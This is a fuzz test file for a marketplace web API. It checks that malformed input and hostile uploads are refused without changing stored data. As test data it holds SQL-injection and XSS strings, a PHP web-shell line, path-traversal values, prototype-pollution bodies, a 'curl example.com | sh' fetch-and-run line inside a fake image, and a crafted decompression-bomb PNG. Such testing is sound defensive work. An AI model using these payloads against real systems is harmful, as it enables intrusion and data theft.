import fc from 'fast-check';
import { randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import type { Response } from 'supertest';
import type Test from 'supertest/lib/test';
import { solvedChallenge } from './challenge-helpers';
import { createTestApp, type TestApp } from './create-test-app';
import { createSeller, image } from './factories';
import { SearchAlerts } from '../src/saved-searches/search-alerts';
import { contentHash, createFixtures, diffFingerprints, dtoFields, type FieldSpec, fillPath, fingerprint, type Fixtures, listFiles, loadRoutes, pathValues, type Route } from './security-helpers';

/**
 * Property-based bad input against every route of the OpenAPI document: malformed JSON and
 * multipart bodies, query strings and path ids (wrong types, missing and unknown fields, 1 MB
 * strings, negative and fractional numbers, RTL/zero-width/emoji text, SQL and HTML injection,
 * nested objects where scalars belong, null). Every answer must be a 4xx with a string `detail`
 * (or a 2xx for an input that happens to be valid), never a 5xx, and only 2xx answers may change
 * what is stored (row counts, highest ids and uploaded files after each request; every row after
 * each route's run). See docs/security.md, "Property-based bad input". The image-upload attacks are at the end.
 *
 * FUZZ_SEED reproduces a run (the seed is printed with any failure); FUZZ_RUNS scales the run counts.
 */

const SCALE = Number(process.env.FUZZ_RUNS ?? 1) || 1;
const RUNS = { body: Math.ceil(50 * SCALE), query: Math.ceil(50 * SCALE), path: Math.ceil(20 * SCALE) };
const SEED = process.env.FUZZ_SEED ? Number(process.env.FUZZ_SEED) : undefined;

/**
 * Each kind of input is fuzzed route by route in several tests, a share of the routes each: in one test per
 * kind, JSON and multipart bodies took 176 s on MariaDB on a busy 2-core machine, past jest's 60 s (and query
 * strings alone 57 s on SQLite). A part takes at most about 40 s on such a machine; its limit holds at 3× that.
 */
const PARTS = { json: 8, multipart: 2, query: 3, path: 3 };
const PART_TIMEOUT_MS = 150_000;
/** The `index`-th of `count` shares of `all`, in order. */
const share = <T>(all: T[], index: number, count: number): T[] => {
  const size = Math.ceil(all.length / count);
  return all.slice(index * size, (index + 1) * size);
};
/** One test per share of the routes; the name says which. */
const inParts = (name: string, count: number, test: (index: number) => Promise<void>) => {
  for (let index = 0; index < count; index++) it(count > 1 ? `${name} (part ${index + 1} of ${count})` : name, () => test(index), PART_TIMEOUT_MS);
};

// ---- what bad input looks like ----

const SQL = [
  "' OR '1'='1",
  "1' OR 1=1 -- ",
  "'; DROP TABLE ads; --",
  '1; DELETE FROM users',
  "' UNION SELECT password_hash, email FROM users --",
  '" OR ""="',
  "admin'--",
  "%' AND SLEEP(3) AND '%'='",
  "' || (SELECT sqlite_version()) || '",
  '1) OR (1=1',
  "\\'; SELECT 1; --",
  '%',
  '_',
  '%%_%_',
  '\\',
  "pune' AND 1=CAST((SELECT email FROM users LIMIT 1) AS INT) --",
  '" MATCH "*',
  'NEAR(a b) OR * AND "',
  '+foo -bar >baz <qux ~quux *',
];
const HTML = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '<svg/onload=alert(1)>',
  '"><iframe src=//example.com></iframe>',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '<a href="javascript:alert(1)">x</a>',
  '<!--',
  ']]><![CDATA[',
  '<?php system($_GET["c"]); ?>',
];
const UNICODE = ['\u202Eevil\u202C.jpg', 'a\u200Bb\u200C\u200Dc\uFEFF', '🙂👍🏽👩‍👩‍👧‍👦🇮🇳', 'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇', 'नमस्ते दुनिया', 'مرحبا بالعالم', '\uD800', '\u0000', 'line\r\nbreak\u0007\b\f', '𝟙𝟚𝟛', '١٢٣', 'ﷺ'];
const OTHER = [
  '../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '/etc/passwd\u0000.png',
  'null',
  'undefined',
  'true',
  'NaN',
  'Infinity',
  '-0',
  '1e3',
  '0x10',
  ' 1',
  '[object Object]',
  '__proto__',
  'constructor',
];
const PAYLOADS = [...SQL, ...HTML, ...UNICODE, ...OTHER];
const MEGABYTE = 'A'.repeat(1024 * 1024);
const MISSING = Symbol('missing');
/** URLs carry UTF-8: a lone surrogate is sent as U+FFFD (encodeURIComponent would throw in the test itself). */
const wellFormed = (value: string) => value.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD');
const encode = (value: string) => encodeURIComponent(wellFormed(value));

const payload = fc.constantFrom(...PAYLOADS);
const shortString = fc.oneof(
  { weight: 6, arbitrary: payload },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 1, arbitrary: fc.constantFrom('', ' ', ' \t\n ') },
);
const evilString = fc.oneof(
  { weight: 30, arbitrary: shortString },
  { weight: 3, arbitrary: fc.tuple(payload, fc.integer({ min: 2, max: 70_000 })).map(([p, n]) => p.repeat(Math.ceil(n / p.length)).slice(0, n)) },
  { weight: 1, arbitrary: fc.constant(MEGABYTE) },
);
const evilNumber = fc.oneof(
  fc.constantFrom(-1, 0, -0, 1.5, -2.5, 0.30000000000000004, 1e308, -1e308, 2 ** 31, 2 ** 31 - 1, -(2 ** 31), 2 ** 53 + 1, 5e-324, 99.999),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
);
const deep = (depth: number) => JSON.parse('['.repeat(depth) + ']'.repeat(depth));
const evilValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', maxDepth: 3 },
    { weight: 6, arbitrary: evilString },
    { weight: 3, arbitrary: evilNumber },
    { weight: 2, arbitrary: fc.constantFrom(null, true, false) },
    { weight: 1, arbitrary: fc.array(tie('value'), { maxLength: 4 }) },
    { weight: 1, arbitrary: fc.dictionary(fc.constantFrom('a', '$gt', '$ne', '$where', 'toString', 'length', '0'), tie('value'), { maxKeys: 3 }) },
    { weight: 1, arbitrary: fc.constantFrom(deep(200), { $gt: '' }, [1, 2, 3], {}, []) },
  ),
})).value;

/** A value the field's own rules accept, carrying an injection or unicode payload where it is text. */
function validValue(field: FieldSpec, ids: number[]): fc.Arbitrary<unknown> | undefined {
  const c = field.checks;
  if (c.has('equals')) return fc.constant(c.get('equals')![0]);
  if (c.has('isIn')) return fc.constantFrom(...(c.get('isIn')![0] as unknown[]));
  if (c.has('isBoolean')) return fc.boolean();
  const min = c.has('min') ? Number(c.get('min')![0]) : undefined;
  const max = c.has('max') ? Number(c.get('max')![0]) : undefined;
  if (c.has('isInt') || c.has('isNumber')) {
    if (field.name.endsWith('Id')) return fc.constantFrom(...ids);
    // Bounds may be fractional (a district's latitude lies between 6.5 and 37.5).
    const lo = min ?? -1000;
    const hi = Math.min(max ?? 1_000_000, lo + 1_000_000);
    const whole = fc.integer({ min: Math.ceil(lo), max: Math.floor(hi) });
    return c.has('isNumber')
      ? fc.oneof(
          whole,
          fc.integer({ min: Math.ceil(lo * 100), max: Math.floor(hi * 100) }).map((n) => n / 100),
        )
      : whole;
  }
  if (c.has('isEmail')) return fc.tuple(fc.constantFrom('asha', "o'reilly", 'a+b', 'x.y', 'ünï'), fc.nat()).map(([local, n]) => `${local}${n}@example.com`);
  if (c.has('isUrl')) return payload.map((p) => `https://example.com/${encode(p)}`);
  if (c.has('matches')) return fc.stringMatching(c.get('matches')![0] as RegExp, { maxLength: 100 }).filter((s) => !c.has('maxLength') || s.length <= Number(c.get('maxLength')![0]));
  if (c.has('isString') || c.has('maxLength')) {
    const minLength = Number(c.get('minLength')?.[0] ?? 0);
    const maxLength = Number(c.get('maxLength')?.[0] ?? 5000);
    const lengths = fc.oneof(
      fc.constant(Math.max(minLength, 12)),
      fc.constant(maxLength),
      fc.constant(maxLength + 1),
      fc.constant(Math.max(minLength - 1, 0)),
      fc.integer({ min: minLength, max: Math.min(maxLength, 2000) }),
    );
    return fc.tuple(payload, lengths).map(([p, n]) => p.repeat(Math.ceil(Math.max(n, 1) / p.length)).slice(0, n));
  }
  return undefined;
}

type JsonInput = { kind: 'object'; body: Record<string, unknown>; proto: boolean } | { kind: 'value'; body: unknown } | { kind: 'raw'; text: string; type: string };

const RAW_BODIES = [
  '',
  '{',
  '{"a":',
  "{'a':1}",
  '{"a":1,}',
  'NaN',
  '\uFEFF{}',
  '\u0000',
  '['.repeat(5000),
  '{"a":1,"a":2}',
  '{"__proto__":{"role":"ADMIN","isAdmin":true},"constructor":{"prototype":{"polluted":true}}}',
  `{"x":"${'\\u0000'.repeat(10)}"}`,
  JSON.stringify({ x: MEGABYTE }),
];
const UNKNOWN_KEYS = ['role', 'isAdmin', 'sellerId', 'userId', 'id', 'status', 'balance', 'walletBalance', 'blocked', 'views', 'takenDown', 'passwordHash'];

function fieldArbitrary(field: FieldSpec, ids: number[]) {
  const valid = validValue(field, ids);
  return fc.oneof({ weight: 5, arbitrary: valid ?? evilValue }, { weight: 2, arbitrary: evilValue }, { weight: 1, arbitrary: fc.constant(MISSING) });
}

function jsonInput(fields: FieldSpec[], ids: number[]): fc.Arbitrary<JsonInput> {
  const record = fc
    .tuple(fc.tuple(...fields.map((f) => fieldArbitrary(f, ids))), fc.dictionary(fc.constantFrom(...UNKNOWN_KEYS), evilValue, { maxKeys: 2 }), fc.nat(9), fc.boolean())
    .map(([values, extra, p, proto]): JsonInput => {
      const body: Record<string, unknown> = p < 2 ? { ...extra } : {};
      fields.forEach((f, i) => values[i] !== MISSING && (body[f.name] = values[i]));
      return { kind: 'object', body, proto: proto && p === 9 };
    });
  return fc.oneof(
    { weight: 10, arbitrary: record },
    { weight: 1, arbitrary: evilValue.map((body): JsonInput => ({ kind: 'value', body })) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom(...RAW_BODIES), fc.constantFrom('application/json', 'text/plain', 'application/x-www-form-urlencoded', 'application/xml'))
        .map(([text, type]): JsonInput => ({ kind: 'raw', text, type })),
    },
  );
}

type Part = { name: string; value: string };
type FilePart = { name: string; bytes: Buffer; filename: string; type?: string };
interface MultipartInput {
  parts: Part[];
  files: FilePart[];
}

/** Multipart text is always a string: the bad inputs are bad strings, repeated fields (arrays) and bracketed names (objects). */
function multipartInput(route: Route, fields: FieldSpec[], ids: number[], fileKinds: fc.Arbitrary<{ bytes: Buffer; filename: string; type?: string }>): fc.Arbitrary<MultipartInput> {
  const text = (f: FieldSpec) => {
    const valid = validValue(f, ids)?.map((v) => String(v));
    return fc.oneof(
      { weight: 5, arbitrary: (valid ?? evilString).map((v): Part[] => [{ name: f.name, value: v }]) },
      { weight: 2, arbitrary: evilString.map((v): Part[] => [{ name: f.name, value: v }]) },
      { weight: 1, arbitrary: fc.array(shortString, { minLength: 2, maxLength: 3 }).map((vs): Part[] => vs.map((v) => ({ name: f.name, value: v }))) },
      { weight: 1, arbitrary: fc.tuple(fc.constantFrom('[$gt]', '[]', '[0]', '[__proto__]', '[a][b]'), shortString).map(([suffix, v]): Part[] => [{ name: f.name + suffix, value: v }]) },
      { weight: 1, arbitrary: fc.constant([] as Part[]) },
    );
  };
  const fileLists: fc.Arbitrary<FilePart[]>[] = Object.entries(route.fileFields).map(([name, max]) =>
    fc
      .oneof({ weight: 3, arbitrary: fc.array(fileKinds, { maxLength: Math.min(max, 2) }) }, { weight: 1, arbitrary: fc.array(fileKinds, { minLength: max + 1, maxLength: max + 1 }) })
      .map((list) => list.map((file): FilePart => ({ name, ...file }))),
  );
  const stray = fc.option(
    fileKinds.map((file): FilePart => ({ name: 'unexpected', ...file })),
    { freq: 8 },
  );
  const extra = fc.option(
    fc.tuple(fc.constantFrom(...UNKNOWN_KEYS), shortString).map(([name, value]): Part => ({ name, value })),
    { freq: 4 },
  );
  return fc.tuple(fc.tuple(...fields.map(text)), extra, fc.tuple(...fileLists), stray).map(([partLists, unknown, files, strayFile]) => ({
    parts: [...(partLists as Part[][]).flat(), ...(unknown ? [unknown] : [])],
    files: [...(files as FilePart[][]).flat(), ...(strayFile ? [strayFile] : [])],
  }));
}

/** Query strings are built by hand so that repeated keys, bracketed keys and broken %-escapes reach the server. */
function queryInput(fields: FieldSpec[], ids: number[]): fc.Arbitrary<string> {
  const queryString = fc.oneof({ weight: 10, arbitrary: shortString }, { weight: 1, arbitrary: fc.integer({ min: 100, max: 4000 }).map((n) => 'q'.repeat(n)) });
  const pair = (name: string, f?: FieldSpec) =>
    fc.oneof(
      { weight: 4, arbitrary: (f ? (validValue(f, ids) ?? queryString) : queryString).map((v) => `${encode(name)}=${encode(String(v))}`) },
      { weight: 3, arbitrary: queryString.map((v) => `${encode(name)}=${encode(v)}`) },
      { weight: 1, arbitrary: fc.array(queryString, { minLength: 2, maxLength: 3 }).map((vs) => vs.map((v) => `${encode(name)}=${encode(v)}`).join('&')) },
      { weight: 1, arbitrary: fc.constantFrom('[$gt]', '[]', '[0]', '[__proto__][x]').map((s) => `${name}${s}=1`) },
      { weight: 1, arbitrary: fc.constantFrom('%', '%zz', '%E0%A4', '%00', '%C0%AE', '%uFFFF', '+', '=', '&&').map((v) => `${name}=${v}`) },
      { weight: 1, arbitrary: fc.constant(name) },
    );
  return fc
    .tuple(
      ...fields.map((f) => fc.option(pair(f.name, f), { freq: 4 })),
      fc.option(
        fc.constantFrom(...UNKNOWN_KEYS).chain((name) => pair(name)),
        { freq: 6 },
      ),
    )
    .map((pairs) => pairs.filter((p): p is string => !!p).join('&'));
}

const BAD_IDS = [
  '0',
  '-1',
  '1.5',
  '1e3',
  '0x10',
  '%201',
  '1%20',
  '%2B1',
  '01',
  '2147483648',
  '99999999999999999999',
  '2147483647',
  'NaN',
  'Infinity',
  'null',
  'undefined',
  'true',
  '%5B%5D',
  '%7B%7D',
  '%00',
  '%zz',
  '%2e%2e%2f',
  '..%252f',
  "1'%20OR%20'1'%3D'1",
  '1%3BDROP%20TABLE%20ads',
  '%3Cscript%3E',
  '%D9%A1',
  '%F0%9D%9F%99',
  '1,2',
  '1;2',
];
/** Path values, already %-encoded: raw bad ids, and any bad string encoded. */
const badPathValue = fc.oneof({ weight: 2, arbitrary: fc.constantFrom(...BAD_IDS) }, { weight: 1, arbitrary: shortString.filter((s) => s.trim() !== '' && !/^[1-9]\d{0,9}$/.test(s)).map(encode) });

// ---- hostile images ----

/** Random pixels do not compress: width × height × 3 bytes of PNG. */
const noisePng = (width: number, height: number) =>
  sharp(randomBytes(width * height * 3), { raw: { width, height, channels: 3 } })
    .png({ compressionLevel: 0 })
    .toBuffer();

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
const crc32 = (bytes: Buffer) => {
  let c = 0xffffffff;
  for (const byte of bytes) c = CRC_TABLE[(c ^ byte) & 0xff] ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
};
const pngChunk = (type: string, data: Buffer) => {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
};
/** A few kilobytes of PNG whose header declares width × height RGB pixels (a decompression bomb's shape), written by hand. */
function pngDeclaring(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const rows = deflateSync(Buffer.alloc((width * 3 + 1) * 8));
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', header), pngChunk('IDAT', rows), pngChunk('IEND', Buffer.alloc(0))]);
}

// ---- the runner ----

describe('fuzz: bad input never breaks the API or changes stored data', () => {
  let t: TestApp;
  let routes: Route[];
  let f: Fixtures;
  let ids: number[];
  let inputs = 0;
  let lastHash: string;
  let lastFingerprint: string | undefined;
  const started = Date.now();
  let fileKinds: fc.Arbitrary<{ bytes: Buffer; filename: string; type?: string }>;

  beforeAll(async () => {
    // A stand-in storefront build, so that storefront page paths are served as in production.
    const webRoot = mkdtempSync(join(tmpdir(), 'bazaar-fuzz-web-'));
    mkdirSync(join(webRoot, 'storefront', 'dist'), { recursive: true });
    writeFileSync(join(webRoot, 'storefront', 'dist', 'index.html'), '<!doctype html><html><head><title>Bazaar</title></head><body><div id="root"></div></body></html>');
    t = await createTestApp({}, { webRoot });
    routes = await loadRoutes(t);
    f = await createFixtures(t);
    // Accounts of their own: logging out with `all` ends every session of the account.
    const spareAdmin = { fullName: 'Spare Admin', email: `spare-admin-${Date.now()}@example.com`, password: 'spare-admin-password' };
    await t.http.post('/api/admins').set('Authorization', `Bearer ${t.adminToken}`).send(spareAdmin).expect(201);
    const signIn = async ({ email, password }: { email: string; password: string }) => (await t.http.post('/api/auth/login').send({ email, password }).expect(200)).body.token as string;
    throwaway = [(await createSeller(t)).token, await signIn(spareAdmin)];
    ids = [1, 2, 3, f.adA, f.packageId, f.slotId, 2_147_483_647];
    const [jpeg, png] = [await image('jpeg', 24), await image('png', 24)];
    fileKinds = fc.oneof(
      fc.constant({ bytes: jpeg, filename: 'photo.jpg', type: 'image/jpeg' }),
      fc.constant({ bytes: png, filename: 'photo.png' }),
      fc.uint8Array({ maxLength: 300 }).map((a) => ({ bytes: Buffer.from(a), filename: 'random.jpg', type: 'image/jpeg' })),
      fc.constant({ bytes: Buffer.from('<?php echo 1; ?><script>alert(1)</script>'), filename: 'shell.php.jpg', type: 'image/jpeg' }),
      fc.constant({ bytes: Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46]), filename: 'truncated.jpg' }),
      fc.constant({ bytes: Buffer.alloc(0), filename: 'empty.png', type: 'image/png' }),
      fc.constant({ bytes: jpeg, filename: '../../../etc/passwd', type: 'text/html' }),
    );
    lastHash = await contentHash(t);
  });
  afterAll(() => t.close());

  /** Logging out ends the session it is called with (or all of its account's): it gets accounts of its own, so that the others' tokens keep working. */
  const ENDS_SESSION = new Set(['POST /api/auth/logout']);
  let throwaway: string[];
  const tokensFor = (route: Route): (string | undefined)[] =>
    ENDS_SESSION.has(`${route.method.toUpperCase()} ${route.path}`)
      ? throwaway
      : route.kind === 'admin'
        ? [t.adminToken]
        : route.kind === 'user'
          ? [f.sellerA.token, t.adminToken]
          : [undefined, t.adminToken];

  /** Sends one input, checks the answer and that a refused request changed nothing; throws (for fast-check) on a problem. */
  async function probe(route: Route, send: (req: Test) => Test | Promise<Test>, url: string, token: string | undefined, what: () => string): Promise<boolean> {
    inputs++;
    // The previous request's "after" is this one's "before" (nothing else writes in between): one fingerprint per request.
    const before = lastFingerprint ?? (await fingerprint(t));
    let req = t.http[route.method](url);
    if (token) req = req.set('Authorization', `Bearer ${token}`);
    // Solved, so that bad input reaches these routes' own validation, not only the challenge guard.
    if (route.challenge) req = req.set(await solvedChallenge(t));
    let res: Response;
    try {
      res = await send(req);
    } catch (error) {
      lastFingerprint = undefined;
      // A connection the server cut (e.g. while a too-large upload was still streaming) is a refusal, not a crash.
      if ((error as { code?: string }).code === 'ECONNRESET' || (error as { code?: string }).code === 'EPIPE') return false;
      throw error;
    }
    // An ad that went live is matched against saved searches right after its commit, by a pass of its own:
    // waited for, so that its writes count as this request's, not as the next one's.
    await t.app.get(SearchAlerts).matchPending();
    const after = await fingerprint(t);
    lastFingerprint = after;
    const problems: string[] = [];
    if (res.status >= 500) problems.push(`server error ${res.status}`);
    if (res.status >= 300 && res.status < 400) problems.push(`redirect ${res.status}`);
    if (res.status >= 400) {
      if (!/json/.test(String(res.headers['content-type']))) problems.push(`error answer is not JSON (${res.headers['content-type']})`);
      else if (typeof res.body?.detail !== 'string' || !res.body.detail) problems.push('error answer has no string detail');
      if (before !== after) problems.push(`refused with ${res.status} but changed stored data: ${diffFingerprints(before, after)}`);
    }
    if (problems.length) {
      throw new Error(`${route.method.toUpperCase()} ${url.slice(0, 300)} ${what().slice(0, 600)}\n  → ${res.status} ${res.text.slice(0, 300)}\n  ${problems.join('; ')}`);
    }
    return res.status < 300;
  }

  /** Runs one property per route; returns the failures (fast-check's shrunk counterexample and seed). */
  async function fuzzRoutes<T>(
    selected: Route[],
    runs: number,
    arbitrary: (route: Route) => fc.Arbitrary<T>,
    request: (route: Route, input: T, token: string | undefined) => { url: string; send: (req: Test) => Test | Promise<Test>; what: () => string },
  ) {
    const failures: string[] = [];
    lastFingerprint = undefined;
    for (const route of selected) {
      let accepted = false;
      const property = fc.asyncProperty(arbitrary(route), fc.constantFrom(...tokensFor(route)), async (input, token) => {
        const { url, send, what } = request(route, input, token);
        if (await probe(route, send, url, token, what)) accepted = true;
      });
      try {
        await fc.assert(property, { numRuns: runs, seed: SEED, endOnFailure: false });
      } catch (error) {
        const { message, cause } = error as Error & { cause?: Error };
        const seed = message.match(/\{ seed: [^}]*\}/)?.[0] ?? '';
        failures.push(`${cause?.message ?? message.slice(0, 1500)}\n  ${seed}`);
      }
      const hash = await contentHash(t);
      if (!accepted && hash !== lastHash && route.method !== 'get') failures.push(`${route.method.toUpperCase()} ${route.path}: every input was refused, yet a stored row changed`);
      lastHash = hash;
    }
    return failures;
  }

  const url = (route: Route, query = '') => fillPath(route, pathValues(route, f)) + (query ? `?${query}` : '');

  inParts('JSON bodies', PARTS.json, async (part) => {
    const all = routes.filter((r) => r.body === 'json');
    expect(all.length).toBeGreaterThanOrEqual(25);
    const failures = await fuzzRoutes(
      share(all, part, PARTS.json),
      RUNS.body,
      (route) => jsonInput(dtoFields(route.bodyDto), ids),
      (route, input) => ({
        url: url(route),
        what: () => (input.kind === 'raw' ? `raw ${input.type} ${JSON.stringify(input.text.slice(0, 200))}` : `body ${JSON.stringify(input.body)?.slice(0, 600)}`),
        send: (req) => {
          if (input.kind === 'raw') return req.set('Content-Type', input.type).send(input.text);
          let text = JSON.stringify(input.body) ?? 'null';
          if (input.kind === 'object' && input.proto) text = text.replace(/^\{/, '{"__proto__":{"role":"ADMIN"},');
          return req.set('Content-Type', 'application/json').send(text);
        },
      }),
    );
    expect(failures).toEqual([]);
  });

  inParts('multipart bodies and files', PARTS.multipart, async (part) => {
    const all = routes.filter((r) => r.body === 'multipart');
    expect(all.length).toBeGreaterThanOrEqual(10);
    const failures = await fuzzRoutes(
      share(all, part, PARTS.multipart),
      RUNS.body,
      (route) => multipartInput(route, dtoFields(route.bodyDto), ids, fileKinds),
      (route, input) => ({
        url: url(route),
        what: () =>
          `fields ${JSON.stringify(input.parts.map((p) => [p.name, p.value.slice(0, 80)]))} files ${JSON.stringify(input.files.map((file) => [file.name, file.filename, file.bytes.length]))}`,
        send: (req) => {
          for (const part of input.parts) req.field(part.name, part.value);
          for (const file of input.files) req.attach(file.name, file.bytes, { filename: file.filename, contentType: file.type ?? 'application/octet-stream' });
          if (!input.parts.length && !input.files.length) req.field('nothing', '');
          return req;
        },
      }),
    );
    expect(failures).toEqual([]);
  });

  inParts('query strings', PARTS.query, async (part) => {
    const all = routes.filter((r) => r.queryDto);
    expect(all.length).toBeGreaterThanOrEqual(15);
    const failures = await fuzzRoutes(
      share(all, part, PARTS.query),
      RUNS.query,
      (route) => queryInput(dtoFields(route.queryDto), ids),
      (route, query) => ({
        url: url(route, query),
        what: () => '',
        send: (req) => req,
      }),
    );
    expect(failures).toEqual([]);
  });

  inParts('path ids and other path values', PARTS.path, async (part) => {
    const all = routes.filter((r) => r.pathParams.length);
    expect(all.length).toBeGreaterThanOrEqual(60);
    const selected = share(all, part, PARTS.path);
    // One parameter is bad in each input; the others keep their real values, so the bad one is what is tested.
    const arbitrary = (route: Route) => fc.tuple(fc.nat(route.pathParams.length - 1), badPathValue);
    const failures = await fuzzRoutes(selected, RUNS.path, arbitrary, (route, [index, bad]) => {
      const values = pathValues(route, f);
      const name = route.pathParams[index];
      const good = fillPath(route, { ...values, [name]: '\u0001' });
      return { url: good.replace('%01', bad), what: () => `${name}=${bad}`, send: (req) => req };
    });
    expect(failures).toEqual([]);
  });

  describe('image uploads: refused or neutralised, and nothing stored on refusal', () => {
    const PAYLOAD = '<?php system($_GET["c"]); ?><html><script>alert(document.domain)</script></html>';
    let files: Record<string, { bytes: Buffer; filename: string; type: string }>;
    /** The four upload forms, each with text fields that pass validation. */
    const forms = () => [
      {
        name: 'ad (seller)',
        path: '/api/seller/post/create',
        field: 'images',
        token: f.sellerA.token,
        fields: { title: 'A perfectly normal title', description: 'A perfectly normal description of thirty or more characters.', categoryId: '1', locationId: '1', phone: '9876543210', age: '30' },
      },
      { name: 'category', path: '/api/admin/categories/create-category', field: 'image', token: t.adminToken, fields: { title: `Upload test ${Date.now()}${Math.random()}` } },
      { name: 'location', path: '/api/admin/locations/create', field: 'stateImage', token: t.adminToken, fields: { state: 'Upload State', district: `District ${Date.now()}${Math.random()}` } },
      { name: 'blog post', path: '/api/admin/blogs', field: 'photo', token: t.adminToken, fields: { title: 'Upload test', description: '<p>Upload test</p>' } },
    ];
    const upload = async (form: ReturnType<typeof forms>[number], attachments: { bytes: Buffer; filename: string; type: string }[]) => {
      inputs++;
      let req = t.http.post(form.path).set('Authorization', `Bearer ${form.token}`);
      for (const [name, value] of Object.entries(form.fields)) req = req.field(name, value);
      for (const file of attachments) req = req.attach(form.field, file.bytes, { filename: file.filename, contentType: file.type });
      try {
        return await req;
      } catch (error) {
        // The server may answer 413 and close before a large upload has been sent in full.
        if (['ECONNRESET', 'EPIPE'].includes((error as { code?: string }).code ?? '')) return { status: 413, body: { detail: '(connection closed early)' }, text: '' } as unknown as Response;
        throw error;
      }
    };

    beforeAll(async () => {
      const jpeg = await image('jpeg', 64);
      files = {
        'a script renamed .jpg': { bytes: Buffer.from(`#!/bin/sh\ncurl example.com | sh\n${PAYLOAD}`), filename: 'photo.jpg', type: 'image/jpeg' },
        'an image over 5 MB': { bytes: await noisePng(1400, 1400), filename: 'big.png', type: 'image/png' },
        'a decompression bomb (a small PNG declaring 30000×30000 pixels)': { bytes: pngDeclaring(30_000, 30_000), filename: 'bomb.png', type: 'image/png' },
        'an SVG with a script, renamed .png': {
          bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>'),
          filename: 'logo.png',
          type: 'image/png',
        },
        'a GIF (not an accepted format)': { bytes: Buffer.concat([Buffer.from('GIF89a'), Buffer.from([1, 0, 1, 0, 0, 0, 0]), Buffer.from(PAYLOAD)]), filename: 'anim.jpg', type: 'image/jpeg' },
        'JPEG magic bytes followed by HTML': { bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(PAYLOAD)]), filename: 'fake.jpg', type: 'image/jpeg' },
        'a polyglot (a valid JPEG with PHP and HTML appended)': { bytes: Buffer.concat([jpeg, Buffer.from(PAYLOAD)]), filename: 'poly.php.jpg', type: 'image/jpeg' },
      };
      expect(files['an image over 5 MB'].bytes.length).toBeGreaterThan(5 * 1024 * 1024);
    });

    it.each([
      ['a script renamed .jpg', 400],
      ['an image over 5 MB', 413],
      ['a decompression bomb (a small PNG declaring 30000×30000 pixels)', 400],
      ['an SVG with a script, renamed .png', 400],
      ['a GIF (not an accepted format)', 400],
      ['JPEG magic bytes followed by HTML', 400],
    ])('%s is refused by every upload form (%i), and nothing is stored', async (name, status) => {
      for (const form of forms()) {
        const before = await fingerprint(t);
        const res = await upload(form, [files[name]]);
        expect({ form: form.name, status: res.status, detail: typeof res.body.detail }).toEqual({ form: form.name, status, detail: 'string' });
        expect(diffFingerprints(before, await fingerprint(t))).toBe('');
      }
    });

    it('a polyglot is accepted only re-encoded: the stored and served files no longer carry the payload', async () => {
      for (const form of forms()) {
        const res = await upload(form, [files['a polyglot (a valid JPEG with PHP and HTML appended)']]);
        if (res.status >= 400) {
          expect(typeof res.body.detail).toBe('string');
          continue;
        }
        expect(res.status).toBe(201);
        const stored = listFiles(t.config.uploadsDir);
        expect(stored.length).toBeGreaterThan(0);
        for (const name of stored) {
          const bytes = readFileSync(join(t.config.uploadsDir, name));
          expect(bytes.includes('<?php')).toBe(false);
          expect(bytes.includes('<script')).toBe(false);
        }
        // An ad's photo is served by its seller's signed link until the ad goes live: keep the query.
        const url = JSON.stringify(res.body).match(/\/uploads\/[\w/-]+\.webp(\?expires=\d+&signature=[\w-]+)?/)?.[0];
        expect(url).toBeDefined();
        const served = await t.http.get(url!).expect(200);
        expect(served.headers['content-type']).toBe('image/webp');
        expect(served.headers['x-content-type-options']).toBe('nosniff');
      }
    });

    it("an ad with one good photo and one bad one is refused whole: the good photo's file is not left behind", async () => {
      const before = await fingerprint(t);
      const res = await upload(forms()[0], [{ bytes: await image('jpeg', 48), filename: 'good.jpg', type: 'image/jpeg' }, files['a script renamed .jpg']]);
      expect(res.status).toBe(400);
      expect(diffFingerprints(before, await fingerprint(t))).toBe('');
    });
  });

  it('rich-text fields store no markup that runs, whatever HTML is sent', async () => {
    // Text may say "javascript:" (it is escaped when shown); what matters is the tags that survive.
    const dangerousTags = (stored: string) =>
      (stored.match(/<[^>]*>/g) ?? []).filter(
        (tag) => /^<\/?\s*(script|iframe|svg|img|object|embed|style|math|link|meta|base|form|input)/i.test(tag) || /\son\w+\s*=|javascript:|vbscript:|data:|style\s*=/i.test(tag),
      );
    const html = fc
      .array(
        fc.oneof(
          fc.constantFrom(
            ...HTML,
            '<p onclick="x()">hi</p>',
            '<a href="javascript:alert(1)">x</a>',
            '<a href="data:text/html,<script>1</script>">x</a>',
